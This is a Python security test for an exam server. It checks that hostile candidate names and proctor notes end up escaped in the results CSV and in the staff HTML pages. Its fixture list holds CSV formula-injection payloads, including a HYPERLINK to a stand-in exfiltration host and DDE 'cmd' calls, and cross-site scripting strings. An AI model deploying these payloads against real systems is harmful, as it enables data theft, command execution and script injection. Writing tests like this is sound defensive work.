"""Hostile text from a roster or a console travels through an exam into the exports and
printed sheets, and stays text: no formula when the centre opens the results CSV in
Excel, no markup in the pages staff open.

There is no roster importer yet (`cbt-server roster import` of issue 4 is not written), so the
candidates' names are stored as a roster import would store them; everything after that
is the real path: log in, answer, submit, grading, the results CSV, the paperwork.
"""

from __future__ import annotations

import csv
import io

import aiohttp
from sqlalchemy import update

from cbt_server.db import models
from cbt_server.keys import SESSIONMAKER
from tests.runtime.wsclient import command
from tests.security.conftest import Site
from tests.security.test_candidate_isolation import a_choice

NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我查分")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<img src=x onerror=alert(1)>王芳",
    '"><script>alert(1)</script>',
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def test_hostile_names_stay_text_in_the_csv_and_the_sheets(any_site: Site) -> None:
    site = any_site
    people = site.s1.people[20 : 20 + len(NAMES)]
    async with site.app[SESSIONMAKER].begin() as db:
        for person, name in zip(people, NAMES, strict=True):
            await db.execute(
                update(models.Candidate).where(models.Candidate.id == person.id).values(name=name)
            )
    clients = [await site.quiet_login(person) for person in people]
    proctor = await site.proctor(site.s1)
    await command(proctor, "start")
    await command(proctor, "note", text="<script>alert('note')</script>=1+1")
    for client, _ in clients:
        state = await client.expect("state")
        assert state["candidate"]["name"] in NAMES  # shown to the candidate as it is
        item = state["paper"]["sections"][0]["items"][0]
        await client.send(
            {"type": "answer", "seq": 1, "item_id": item["item_id"], "response": [a_choice(item)]}
        )
        await client.expect("ack", seq=1)
        await client.send({"type": "submit", "seq": 2})
        await client.expect("result", wait=30)
        await client.close()
    await proctor.close()

    headers = {"Authorization": f"Bearer {site.secrets.results_token}"}
    async with (
        aiohttp.ClientSession() as http,
        http.get(f"{site.base_url}/api/v1/results.csv", headers=headers) as response,
    ):
        assert response.status == 200
        raw = await response.read()
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    by_ticket = {row["ticket"]: row for row in rows}
    assert len(by_ticket) == len(NAMES)
    for person, name in zip(people, NAMES, strict=True):
        row = by_ticket[person.ticket]
        if name.startswith(FORMULA_STARTS):
            assert row["name"] == "'" + name
        else:
            assert row["name"] == name
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)

    cookie = {"Cookie": f"cbt_staff={site.s1.proctor_cookie}"}
    pages = {}
    async with aiohttp.ClientSession() as http:
        for path in ("room-record", "score-summary"):
            async with http.get(
                f"{site.base_url}/paperwork/sessions/S-01/{path}", headers=cookie
            ) as page:
                assert page.status == 200
                pages[path] = await page.text()
    for html in pages.values():
        assert "<img src=x" not in html and "<script>alert" not in html
        assert "&lt;img src=x onerror=alert(1)&gt;王芳" in html
    assert "&lt;script&gt;alert(&#39;note&#39;)&lt;/script&gt;=1+1" in pages["room-record"]
